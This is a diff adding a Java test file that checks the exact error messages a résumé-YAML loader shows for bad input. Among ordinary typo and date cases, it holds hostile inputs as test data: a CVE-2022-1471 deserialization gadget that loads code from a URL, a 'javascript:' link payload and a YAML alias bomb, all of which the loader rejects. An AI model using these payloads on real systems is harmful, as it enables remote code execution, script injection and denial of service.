@@ -1,0 +1,217 @@
+package dev.vitae.load;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.vitae.pipeline.Vitae;
+import dev.vitae.source.DiagnosticFormatter;
+import java.nio.charset.StandardCharsets;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/** The exact messages a user sees for bad input: position, source line, caret, hint. */
+class LoaderErrorsTest {
+
+  static String report(String yaml) {
+    return report(yaml.getBytes(StandardCharsets.UTF_8));
+  }
+
+  static String report(byte[] bytes) {
+    LoadResult r = Vitae.read("resume.yaml", bytes);
+    assertThat(r).isInstanceOf(LoadResult.Failed.class);
+    return DiagnosticFormatter.format(r.source(), r.diagnostics());
+  }
+
+  static Stream<Arguments> cases() {
+    return Stream.of(
+        Arguments.of("unknown key with a suggestion", """
+            basics:
+              name: Ada
+            work:
+              - name: Acme
+                postion: Engineer
+            """, """
+            resume.yaml:5:5: error: unknown key 'postion' in work[0]
+                    postion: Engineer
+                    ^
+              hint: did you mean 'position'?
+            1 error
+            """),
+        Arguments.of("wrong type: text where a list belongs", """
+            basics:
+              name: Ada
+            work:
+              - name: Acme
+                highlights: Built things
+            """, """
+            resume.yaml:5:17: error: 'highlights' must be a list, not text
+                    highlights: Built things
+                                ^
+              hint: start each item on its own line with '- '
+            1 error
+            """),
+        Arguments.of("missing required name", """
+            basics:
+              label: Engineer
+            """, """
+            resume.yaml:2:3: error: basics is missing 'name'
+                  label: Engineer
+                  ^
+              hint: add 'name: …' to it
+            1 error
+            """),
+        Arguments.of("duplicate key", """
+            basics:
+              name: Ada
+              email: a@example.com
+              email: b@example.com
+            """, """
+            resume.yaml:4:3: error: duplicate key 'email' (first written on line 3)
+                  email: b@example.com
+                  ^
+              hint: delete one of the two, or merge them
+            1 error
+            """),
+        Arguments.of("bad date", """
+            basics:
+              name: Ada
+            work:
+              - name: Acme
+                startDate: 2021-13
+            """, """
+            resume.yaml:5:16: error: 'startDate' is not a date: '2021-13'
+                    startDate: 2021-13
+                               ^
+              hint: write YYYY, YYYY-MM or YYYY-MM-DD, e.g. '2021-03'
+            1 error
+            """),
+        Arguments.of("end before start", """
+            basics:
+              name: Ada
+            work:
+              - name: Acme
+                startDate: '2021-03'
+                endDate: '2020-01'
+            """, """
+            resume.yaml:6:14: error: endDate 2020-01 is before startDate 2021-03
+                    endDate: '2020-01'
+                             ^
+              hint: swap the two dates, or write 'present' if it has not ended
+            1 error
+            """),
+        Arguments.of("tab in indentation", "basics:\n\tname: Ada\n", """
+            resume.yaml:2:1: error: tab character in indentation
+                 name: Ada
+                ^
+              hint: YAML indents with spaces only; replace the tab with spaces
+            1 error
+            """),
+        Arguments.of("empty file", "\n\n", """
+            resume.yaml:1:1: error: the file is empty
+              hint: start with 'basics:' and the person's name; 'vitae init' writes a starter file
+            1 error
+            """),
+        Arguments.of("top level is a list", "- basics\n- work\n", """
+            resume.yaml:1:1: error: the top level must be a mapping of sections (basics:, work:, …)
+                - basics
+                ^
+              hint: start the file with 'basics:' at the first column
+            1 error
+            """),
+        Arguments.of("global tag (CVE-2022-1471 gadget)", """
+            basics:
+              name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
+            """, """
+            resume.yaml:2:9: error: the tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is not allowed
+                  name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
+                        ^
+              hint: vitae reads plain data only; delete the tag (the word starting with '!')
+            1 error
+            """),
+        Arguments.of("unsafe link scheme", """
+            basics:
+              name: Ada
+              url: javascript:alert(1)
+            """, """
+            resume.yaml:3:8: error: the link scheme 'javascript:' is not allowed
+                  url: javascript:alert(1)
+                       ^
+              hint: write a full web address starting with https://
+            1 error
+            """),
+        Arguments.of("control character", "basics:\n  name: Ada\u0007\n", """
+            resume.yaml:2:12: error: control character U+0007 is not allowed
+                  name: Ada\s
+                           ^
+              hint: delete it: it is invisible in most editors and unreadable to applicant-tracking systems
+            1 error
+            """),
+        Arguments.of("YAML syntax: unclosed quote", """
+            basics:
+              name: "Ada
+            """, """
+            resume.yaml:3:1: error: YAML syntax: found unexpected end of stream
+              hint: a quote was opened and never closed
+            1 error
+            """),
+        Arguments.of("every error at once, in source order", """
+            basics:
+              nme: Ada
+              email: not-an-email
+            work:
+              - name: Acme
+                startDate: someday
+            skills: Java
+            """, """
+            resume.yaml:2:3: error: unknown key 'nme' in basics
+                  nme: Ada
+                  ^
+              hint: did you mean 'name'?
+            resume.yaml:2:3: error: basics is missing 'name'
+                  nme: Ada
+                  ^
+              hint: add 'name: …' to it
+            resume.yaml:6:16: error: 'startDate' is not a date: 'someday'
+                    startDate: someday
+                               ^
+              hint: write YYYY, YYYY-MM or YYYY-MM-DD, e.g. '2021-03'
+            resume.yaml:7:9: error: 'skills' must be a list, not text
+                skills: Java
+                        ^
+              hint: start each item on its own line with '- '
+            4 errors
+            """),
+        Arguments.of("alias bomb", """
+            a: &a ["x","x","x","x","x","x","x","x","x"]
+            b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
+            c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
+            d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
+            """, """
+            resume.yaml:1:1: error: too many aliases (more than 20): the file looks like an alias bomb
+                a: &a ["x","x","x","x","x","x","x","x","x"]
+                ^
+              hint: write the values out instead of repeating them through '*' aliases
+            1 error
+            """));
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @MethodSource("cases")
+  void reportsTheExactMessage(String name, String yaml, String expected) {
+    assertThat(report(yaml)).isEqualTo(expected);
+  }
+
+  @Test
+  void invalidUtf8IsReportedWhereItStands() {
+    byte[] bytes = "basics:\n  name: Ad\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
+    assertThat(report(bytes)).isEqualTo("""
+        resume.yaml:2:11: error: invalid UTF-8 byte 0xE9
+              name: Ad\uFFFD
+                      ^
+          hint: save the file as UTF-8 (most editors: File > Save with Encoding > UTF-8)
+        1 error
+        """);
+  }
+}
